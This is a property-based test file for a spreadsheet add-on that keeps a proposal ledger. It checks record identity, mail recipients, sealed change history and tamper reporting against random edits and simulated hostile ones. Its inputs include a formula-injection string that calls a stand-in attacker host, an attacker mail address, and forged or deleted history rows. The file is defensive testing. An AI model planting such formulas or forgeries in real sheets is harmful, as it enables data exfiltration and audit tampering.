// Property test of issue #15 on the bundle: random hand edits of every sheet (課題一覧 and
// 所管課別進捗 cells including the ID and 所管課 keys, permuted pastes of the ID column, deleted and
// duplicated rows, one column sorted alone, whole sheets sorted, 送信記録, 変更履歴, 台帳状態, 所管課,
// 設定), mixed with sidebar saves (some killed at one of their writes and finished or undone by the
// next run), sends and answers (and the same answer again). After every step:
// - no record's fields under another ID (the test keeps its own model of each title and 困りごと);
// - no mail to an address not in 所管課 for that department at that time;
// - no accepted change without its history row (every difference from the sample's start is a
//   sealed 変更履歴 row's 新値);
// - every history break found by the seals is reported to the owner by the next daily check;
// - no formula in a cell the add-on wrote; the same answer twice sends nothing.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { changeRows, sortSheet, typeInto } from '../../local/runtime/people';
import type { Runtime } from '../../local/runtime/runtime';
import { columnLetters } from '../../local/runtime/spreadsheet';
import { displayValue } from '../../local/runtime/values';
import { sealer } from '../../src/domain/seal';
import { GENESIS, rowSeal } from '../../src/sheets/history';
import {
  call,
  daily,
  historyEntryOf,
  OWNER,
  PT,
  PT2,
  records,
  registerProps,
  sampleRuntime,
  sheetValues,
  tick,
} from '../helpers';

const SEED = Number(process.env.INTEGRITY_SEED ?? 15_2025);
const RUNS = Number(process.env.INTEGRITY_RUNS ?? 30);
const MAX_STEPS = 12;
const LEDGER_REPORT = '【プラチナ提案台帳】変更履歴の改ざん・削除の可能性';
const FORMULA = '=IMPORTXML("https://evil.example/x","//a")';
const IDS = ['R7-U01', 'R7-U02', 'R7-U03', 'R7-U07', 'R7-S01', 'R7-S05', 'R7-S09'];
const DEPTS = ['広報室', '情報政策課', '保護課', '市民課', '人事課', '契約課', '架空課'];
const TYPED = [
  'R7-U02',
  'R7-U01',
  'R7-S99',
  '保護課',
  '広報室',
  '②',
  '①',
  '④',
  '',
  FORMULA,
  '手で書いた',
  '12月1日',
  'attacker@evil.example',
  '1E5',
];

const KINDS = [
  'save',
  'killed-save',
  'stage',
  'consult',
  'present',
  'send',
  'answer',
  'answer-again',
  'daily',
  'type',
  'paste-ids',
  'paste-block',
  'delete-rows',
  'duplicate-row',
  'sort-column',
  'sort-sheet',
  'mail-log',
  'history-typed',
  'history-silent',
  'ledger-store',
  'directory',
  'settings',
] as const;

const step = fc.record({
  kind: fc.constantFrom(...KINDS),
  id: fc.constantFrom(...IDS),
  dept: fc.constantFrom(...DEPTS),
  stage: fc.constantFrom('未提示', '①', '②', '④', '所管外'),
  sheet: fc.constantFrom('課題一覧', '所管課別進捗'),
  row: fc.nat(80),
  col: fc.nat(20),
  n: fc.integer({ min: 1, max: 4 }),
  typed: fc.constantFrom(...TYPED),
  perm: fc.array(fc.nat(10), { minLength: 2, maxLength: 4 }),
  variant: fc.nat(5),
  asOwner: fc.boolean(),
});
type Step = typeof step extends fc.Arbitrary<infer T> ? T : never;

const headerOf = (rt: Runtime, sheet: string) => sheetValues(rt, sheet)[0] ?? [];
const colOf = (rt: Runtime, sheet: string, header: string) => headerOf(rt, sheet).indexOf(header) + 1;
const lastRow = (rt: Runtime, sheet: string) => rt.workbook.sheet(sheet)!.lastRow();
const version = (rt: Runtime, id: string, user: string) => {
  const r = call<{ version: string }>(rt, 'apiGetProposal', { id }, user);
  if (!r.ok) throw new Error(r.message);
  return r.data.version;
};

/** Sealed history rows as the test knows them: every genuine row seen so far, by its seal. */
interface HistoryRow {
  id: string;
  department: string;
  field: string;
  new: string;
  hash: string;
}
const fieldsOf = historyEntryOf;

class Oracle {
  readonly seal;
  /** Every genuine history row ever seen (kept when a hostile editor deletes it from the sheet). */
  readonly archive = new Map<string, HistoryRow>();
  readonly start = new Map<string, Record<string, string>>();
  readonly startProgress = new Map<string, Record<string, string>>();
  /** The expected title and 困りごと of every proposal. */
  readonly model = new Map<string, { title: string; painPoint: string }>();
  seenMail = 0;
  /** The history break now found by the seals ('' when intact) and the outbox length then. */
  breakSig = '';
  breakSince = -1;
  lastAnswer: { payload: unknown } | null = null;
  /** Sheets where a person typed or pasted a formula: it stays theirs (reported, not obeyed). */
  readonly formulaTyped = new Set<string>();
  headLast = GENESIS;

  constructor(readonly rt: Runtime) {
    this.seal = sealer(registerProps(rt).TOKEN_SECRET!);
    for (const p of records(rt, '課題一覧')) {
      this.start.set(p.ID!, p);
      this.model.set(p.ID!, { title: p['課題(提案)名']!, painPoint: p.困りごと! });
    }
    for (const r of records(rt, '所管課別進捗')) this.startProgress.set(`${r.ID}|${r.所管課}`, r);
    this.headLast = this.head().historyLast;
    this.learnHistory();
    expect(this.historyBreaks()).toBe('');
    this.seenMail = rt.state.outbox.length;
  }

  head(): { historyRows: number; historyLast: string } {
    return JSON.parse(registerProps(this.rt).LEDGER_HEAD ?? '{}');
  }

  /** Adds the rows that verify (chained to the row above, to the head's last seal, or known). */
  learnHistory() {
    let prev = GENESIS;
    for (const h of records(this.rt, '変更履歴')) {
      const e = fieldsOf(h);
      const known = this.archive.get(h.ハッシュ!);
      const genuine =
        (known && known.id === e.id && known.field === e.field && known.new === e.new) ||
        rowSeal(this.seal, prev, e) === h.ハッシュ ||
        rowSeal(this.seal, this.headLast, e) === h.ハッシュ;
      if (genuine && !known)
        this.archive.set(h.ハッシュ!, {
          id: e.id,
          department: e.department,
          field: e.field,
          new: e.new,
          hash: h.ハッシュ!,
        });
      prev = h.ハッシュ!;
    }
    this.headLast = this.head().historyLast;
  }

  /** What the seals and the head say is wrong with 変更履歴 now ('' when intact). */
  historyBreaks(): string {
    const head = this.head();
    const rows = records(this.rt, '変更履歴');
    const bad: number[] = [];
    let prev = GENESIS;
    rows.forEach((h, i) => {
      if (rowSeal(this.seal, prev, fieldsOf(h)) !== h.ハッシュ) bad.push(i);
      prev = h.ハッシュ!;
    });
    if (rows.length !== head.historyRows) bad.push(-rows.length);
    else if (rows.length && rows.at(-1)!.ハッシュ !== head.historyLast) bad.push(-1e6);
    return bad.join(',');
  }

  explained(id: string, department: string, field: string, value: string): boolean {
    for (const h of this.archive.values())
      if (h.id === id && h.department === department && h.field === field && h.new === value) return true;
    return false;
  }
}

const PROPOSAL_LOGGED = [
  '種別',
  '困りごと',
  '目線',
  '場面・分類',
  '課題(提案)名',
  '解決策',
  'PT担当',
  'PT連絡先',
  '判断',
  '判断日',
  '終了理由',
  '実施状況',
  '備考',
];
const PROGRESS_LOGGED = ['段階', '提示日', '協議日', '対応済日', '所管外の理由'];

/** The invariants, after every step; `candidates` are values a hand edit put under an ID. */
function check(o: Oracle, s: Step, candidates: Set<string>, outboxBefore: number) {
  const rt = o.rt;
  o.learnHistory();
  // Row identity: every proposal once, its fields as the model says.
  const proposals = records(rt, '課題一覧');
  for (const id of o.start.keys())
    expect(
      proposals.filter((p) => p.ID === id),
      `${id} once in 課題一覧`,
    ).toHaveLength(1);
  for (const p of proposals) {
    // Cells pasted below the table, with no ID, are no record (they carry a note saying so).
    if (!p.ID) continue;
    expect(o.start.has(p.ID!), `unknown row ${p.ID} in 課題一覧`).toBe(true);
    const m = o.model.get(p.ID!)!;
    for (const [key, header] of [
      ['title', '課題(提案)名'],
      ['painPoint', '困りごと'],
    ] as const) {
      const now = p[header]!;
      if (now === m[key]) continue;
      expect(
        candidates.has(`${p.ID}|${header}|${now}`) && o.explained(p.ID!, '', header, now),
        `${p.ID} ${header}: ${JSON.stringify(now)}, expected ${JSON.stringify(m[key])} (step ${s.kind})`,
      ).toBe(true);
      m[key] = now;
    }
  }
  const progress = records(rt, '所管課別進捗');
  const keys = progress.map((r) => `${r.ID}|${r.所管課}`).filter((k) => k !== '|');
  expect(new Set(keys).size, 'no duplicate (ID, 所管課) row').toBe(keys.length);
  for (const k of o.startProgress.keys()) expect(keys, `${k} kept`).toContain(k);
  // Cells pasted below the table with no ID nor 所管課 are no record; a department typed in by hand
  // for a known proposal is one only when its addition is in sealed history (PRODUCT: hand edits).
  for (const k of keys) {
    if (k === '|') continue;
    const [id, dept] = k.split('|') as [string, string];
    expect(o.startProgress.has(k) || o.explained(id, dept, '所管課追加', dept), `unknown row ${k}`).toBe(
      true,
    );
  }
  // No accepted change without its history row.
  for (const p of proposals) {
    if (!p.ID) continue;
    const was = o.start.get(p.ID!)!;
    for (const f of PROPOSAL_LOGGED)
      if ((p[f] ?? '') !== (was[f] ?? ''))
        expect(o.explained(p.ID!, '', f, p[f]!), `${p.ID} ${f} = ${p[f]} without history (${s.kind})`).toBe(
          true,
        );
  }
  for (const r of progress) {
    if (!r.ID && !r.所管課) continue;
    // A department added by hand (its addition in history) started empty.
    const was: Record<string, string> = o.startProgress.get(`${r.ID}|${r.所管課}`) ?? { 段階: '未提示' };
    for (const f of PROGRESS_LOGGED)
      if ((r[f] ?? '') !== (was[f] ?? ''))
        expect(
          o.explained(r.ID!, r.所管課!, f, r[f]!),
          `${r.ID} ${r.所管課} ${f} = ${r[f]} without history (${s.kind})`,
        ).toBe(true);
  }
  // No mail to an address the directory does not give that department now.
  const directory = new Map(records(rt, '所管課').map((d) => [d.所管課!, d.メールアドレス!]));
  const settings = records(rt, '設定')
    .map((r) => r.値 ?? '')
    .join(' ');
  for (const m of rt.state.outbox.slice(o.seenMail)) {
    const to = [m.to, m.cc, m.bcc]
      .join(',')
      .split(/[,、\s]+/)
      .filter(Boolean);
    const dept = /^(\S+) ご担当者様/.exec(m.body)?.[1];
    for (const a of to) {
      if (dept) expect(directory.get(dept) ?? '', `${m.subject} to ${a} (${dept})`).toContain(a);
      else expect([OWNER, PT, PT2].includes(a) || settings.includes(a), `${m.subject} to ${a}`).toBe(true);
    }
  }
  o.seenMail = rt.state.outbox.length;
  // Every history break is reported to the owner by the daily check (once is enough).
  const breaks = o.historyBreaks();
  if (breaks !== o.breakSig) {
    o.breakSig = breaks;
    o.breakSince = breaks ? outboxBefore : -1;
  }
  if (s.kind === 'daily' && o.breakSig)
    expect(
      rt.state.outbox.slice(o.breakSince).some((m) => m.to === OWNER && m.subject === LEDGER_REPORT),
      `history break ${o.breakSig} reported`,
    ).toBe(true);
  // The add-on never writes a live formula.
  for (const name of ['集計', '課題一覧', '所管課別進捗', '協議記録', '変更履歴', '送信記録']) {
    const sheet = rt.workbook.sheet(name)!;
    sheet.cells.forEach((row, r) =>
      row?.forEach((c, i) => {
        if (c?.f && (name === '集計' || !o.formulaTyped.has(name)))
          throw new Error(`formula in ${name}!${columnLetters(i + 1)}${r + 1}: ${c.f} (${s.kind})`);
      }),
    );
  }
}

/** Runs one step; returns the (ID|header|value) triples a hand edit legitimately put under an ID. */
function runStep(o: Oracle, s: Step, n: number): Set<string> {
  const rt = o.rt;
  const user = s.asOwner ? OWNER : PT;
  const candidates = new Set<string>();
  const idAt = (sheet: string, row: number) =>
    displayValue(rt.workbook.sheet(sheet)!.cell(row - 1, colOf(rt, sheet, 'ID') - 1));
  const dataRow = (sheet: string) => 2 + (s.row % Math.max(1, lastRow(rt, sheet) - 1));
  /** Hand typing a block: what it may legitimately change (a cell of a row keeps its row's ID). */
  const typed = (sheet: string, row: number, col: number, block: string[][]) => {
    const header = headerOf(rt, sheet);
    block.forEach((r, i) =>
      r.forEach((v, j) => {
        candidates.add(`${idAt(sheet, row + i)}|${header[col - 1 + j]}|${v.trim()}`);
        if (v.startsWith('=')) o.formulaTyped.add(sheet);
      }),
    );
    typeInto(rt, `${sheet}!${columnLetters(col)}${row}`, block, { user });
  };
  switch (s.kind) {
    case 'save': {
      const title = s.variant % 2 === 1;
      const fields: Record<string, string> = title
        ? { title: `題${n}` }
        : { painPoint: `困りごと${n}`, notes: s.typed };
      const r = call(rt, 'apiUpdateProposal', { id: s.id, version: version(rt, s.id, user), fields }, user);
      if (r.ok) {
        const m = o.model.get(s.id)!;
        if (title) m.title = `題${n}`;
        else m.painPoint = `困りごと${n}`;
      }
      break;
    }
    case 'killed-save': {
      // A title saved and killed at one of its writes (the platform's time limit at that call);
      // the 10-minute run then finishes or undoes it. (Left to the 10-minute run with a hand edit
      // before it, two records can swap: integrity.attack.test.ts.)
      const v = version(rt, s.id, user);
      const method = ['Range.setValues', 'Properties.setProperties', 'RangeList.setNumberFormat'][
        s.variant % 3
      ]!;
      rt.interleave(method, () => rt.advance(6 * 60_000), s.n - 1);
      let r: { ok: boolean } = { ok: false };
      try {
        r = call(rt, 'apiUpdateProposal', { id: s.id, version: v, fields: { title: `題${n}` } }, user);
      } catch (e) {
        expect(String(e)).toContain('Exceeded maximum execution time');
      }
      rt.clearInterleaves();
      rt.advance(10 * 60_000);
      tick(rt);
      if (r.ok) o.model.get(s.id)!.title = `題${n}`;
      // Finished by the repair: the new title stands, with its history row (checked).
      else candidates.add(`${s.id}|課題(提案)名|題${n}`);
      break;
    }
    case 'stage':
      call(
        rt,
        'apiSetDepartmentStage',
        {
          id: s.id,
          version: version(rt, s.id, user),
          department: s.dept,
          stage: s.stage,
          reason: s.stage === '所管外' ? '所管が違う' : '',
        },
        user,
      );
      break;
    case 'consult':
      call(
        rt,
        'apiRecordConsultation',
        {
          id: s.id,
          version: version(rt, s.id, user),
          department: s.dept,
          date: '2025-11-25',
          summary: s.typed || '協議',
        },
        user,
      );
      break;
    case 'present':
      call(
        rt,
        'apiPresent',
        { id: s.id, version: version(rt, s.id, user), departments: [s.dept], effectiveDate: '2025-11-25' },
        user,
      );
      break;
    case 'send':
      rt.advance(10 * 60_000);
      tick(rt);
      break;
    case 'daily':
      // The next day: the add-on's hourly run does the daily work once a calendar day.
      rt.advance(24 * 60 * 60_000);
      daily(rt);
      break;
    case 'answer': {
      const links = rt.state.outbox
        .map((m) => /\?t=((?:[A-Za-z0-9]{16}\.)?[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+)/.exec(m.body)?.[1])
        .filter((t): t is string => !!t);
      if (!links.length) break;
      const token = links[s.row % links.length]!;
      const payload = {
        token,
        kind: ['協議に応じる', '既に対応済み・対応予定', '所管外', 'その他'][s.variant % 4],
        comment: s.typed || `回答${n}`,
        answeredBy: '所管課 山田',
        proposedDate: '',
      };
      rt.callWeb('apiAnswer', [payload]);
      o.lastAnswer = { payload };
      break;
    }
    case 'answer-again': {
      if (!o.lastAnswer) break;
      const history = records(rt, '変更履歴').length;
      const mails = rt.state.outbox.length;
      rt.callWeb('apiAnswer', [o.lastAnswer.payload]);
      expect(rt.state.outbox.length, 'the same answer again sends nothing').toBe(mails);
      expect(records(rt, '変更履歴').length, 'the same answer again changes nothing').toBe(history);
      break;
    }
    case 'type': {
      const sheet = s.sheet;
      const col = 1 + (s.col % headerOf(rt, sheet).length);
      typed(sheet, dataRow(sheet), col, [[s.typed]]);
      break;
    }
    case 'paste-ids': {
      // A permuted block of the ID column (or of 所管課) pasted back over itself.
      const sheet = s.sheet;
      const col = s.variant % 2 && sheet === '所管課別進捗' ? 2 : 1;
      const row = dataRow(sheet);
      const len = Math.min(s.perm.length, lastRow(rt, sheet) - row + 1);
      const model = rt.workbook.sheet(sheet)!;
      const values = Array.from({ length: len }, (_, i) => displayValue(model.cell(row - 1 + i, col - 1)));
      const order = values.map((_, i) => i).sort((a, b) => (s.perm[a] ?? 0) - (s.perm[b] ?? 0) || b - a);
      typed(
        sheet,
        row,
        col,
        order.map((i) => [values[i]!]),
      );
      break;
    }
    case 'paste-block': {
      // A careless block over several rows and columns (or a fill down of one value).
      const sheet = s.sheet;
      const col = 1 + (s.col % headerOf(rt, sheet).length);
      const block = Array.from({ length: s.n }, (_, i) =>
        Array.from({ length: 1 + (s.variant % 3) }, (_, j) =>
          s.variant > 2 ? s.typed : `${s.typed}${i}${j}`,
        ),
      );
      typed(sheet, dataRow(sheet), col, block);
      break;
    }
    case 'delete-rows': {
      const sheet = s.sheet;
      const row = dataRow(sheet);
      changeRows(rt, sheet, row, Math.min(lastRow(rt, sheet), row + s.n - 1), 'REMOVE_ROW', { user });
      break;
    }
    case 'duplicate-row': {
      // A copy of a row pasted into the first empty row below the table, or over the row below it
      // (that row's record must keep its own fields: the pasted ones are no edit of it).
      const sheet = s.sheet;
      const row = dataRow(sheet);
      const copy = sheetValues(rt, sheet)[row - 1]!;
      const at = s.variant % 2 && row < lastRow(rt, sheet) ? row + 1 : lastRow(rt, sheet) + 1;
      typeInto(rt, `${sheet}!A${at}`, [copy], { user });
      break;
    }
    case 'sort-column': {
      // Any one column selected and sorted on its own (the rows' other cells stay).
      const sheet = s.sheet;
      const model = rt.workbook.sheet(sheet)!;
      const col = s.col % headerOf(rt, sheet).length;
      const cells = Array.from({ length: model.lastRow() - 1 }, (_, r) => model.cell(r + 1, col));
      cells.sort((a, b) => displayValue(b).localeCompare(displayValue(a), 'ja'));
      cells.forEach((c, r) => {
        model.ensure(r + 1, col);
        model.cells[r + 1]![col] = c!;
      });
      rt.fireTrigger('onChangeInstalled', { changeType: 'OTHER' });
      break;
    }
    case 'sort-sheet': {
      const sheets = ['課題一覧', '所管課別進捗', '所管課', '送信記録', '協議記録', '変更履歴'];
      sortSheet(rt, sheets[s.variant % sheets.length]!, 1 + (s.col % 4), { user });
      break;
    }
    case 'mail-log': {
      const rows = lastRow(rt, '送信記録');
      if (rows < 2) break;
      const row = 2 + (s.row % (rows - 1));
      const what = s.variant % 3;
      const col = colOf(rt, '送信記録', ['宛先', '状態', '状態'][what]!);
      typed('送信記録', row, col, [[['attacker@evil.example', '失敗', '待機'][what]!]]);
      break;
    }
    case 'history-typed': {
      const row = dataRow('変更履歴');
      const col = 1 + (s.col % 11);
      typed('変更履歴', row, col, s.n > 2 ? [[s.typed], [s.typed]] : [[s.typed || '書き換え']]);
      break;
    }
    case 'history-silent': {
      // A hostile editor whose edit fired no trigger (or whose check never ran).
      const sheet = rt.workbook.sheet('変更履歴')!;
      const last = sheet.lastRow();
      const row = 1 + (s.row % (last - 1));
      if (s.variant === 0) sheet.cells[row]![8] = { v: s.typed || '書き換え' };
      else if (s.variant === 1) sheet.cells.length = last - s.n;
      else if (s.variant === 2) sheet.cells.push(structuredClone(sheet.cells[row]!));
      else if (s.variant === 3) {
        const [a, b] = [sheet.cells[row]!, sheet.cells[row - 1 || 1]!];
        sheet.cells[row] = b;
        sheet.cells[row - 1 || 1] = a;
      } else {
        const forged = structuredClone(sheet.cells[last - 1]!);
        forged[8] = { v: '④' };
        sheet.cells.push(forged);
      }
      break;
    }
    case 'ledger-store': {
      const rows = lastRow(rt, '台帳状態');
      const row = 2 + (s.row % (rows - 1));
      typed('台帳状態', row, 1 + (s.col % 6), s.n > 2 ? [[s.typed], ['①']] : [[s.typed || '①']]);
      break;
    }
    case 'directory': {
      const dir = records(rt, '所管課');
      const row = 2 + (s.row % dir.length);
      const col = colOf(rt, '所管課', 'メールアドレス');
      typeInto(rt, `所管課!${columnLetters(col)}${row}`, [[`new${n}@example.jp`]], { user });
      break;
    }
    case 'settings': {
      const set = records(rt, '設定');
      const row = 2 + (s.variant === 0 ? 0 : s.row % set.length);
      const key = set[row - 2]!.項目!;
      // Role and address lists are left alone: the test's mail check reads them.
      if (['事務局', 'PTメンバー', 'PT連絡先', '年度'].includes(key)) break;
      typeInto(rt, `設定!B${row}`, [[s.variant < 2 ? FORMULA : s.typed]], { user: OWNER });
      break;
    }
  }
  return candidates;
}

describe('issue #15: random hand edits of every sheet with saves, sends and answers', () => {
  it('never move a record to another ID, mail a stranger, change without history or hide a break', () => {
    let sequences = 0;
    let steps = 0;
    const kinds = new Map<string, number>();
    const started = Date.now();
    fc.assert(
      fc.property(fc.array(step, { minLength: 3, maxLength: MAX_STEPS }), (seq) => {
        sequences++;
        const rt = sampleRuntime();
        const o = new Oracle(rt);
        seq.forEach((s, i) => {
          steps++;
          kinds.set(s.kind, (kinds.get(s.kind) ?? 0) + 1);
          const before = rt.state.outbox.length;
          const candidates = runStep(o, s, i);
          check(o, s, candidates, before);
        });
      }),
      { numRuns: RUNS, seed: SEED, endOnFailure: true },
    );
    console.log(
      `integrity property test: ${sequences} sequences, ${steps} steps in ${Date.now() - started} ms`,
      Object.fromEntries(kinds),
    );
    expect(steps).toBeGreaterThan(RUNS);
  }, 120_000);
});
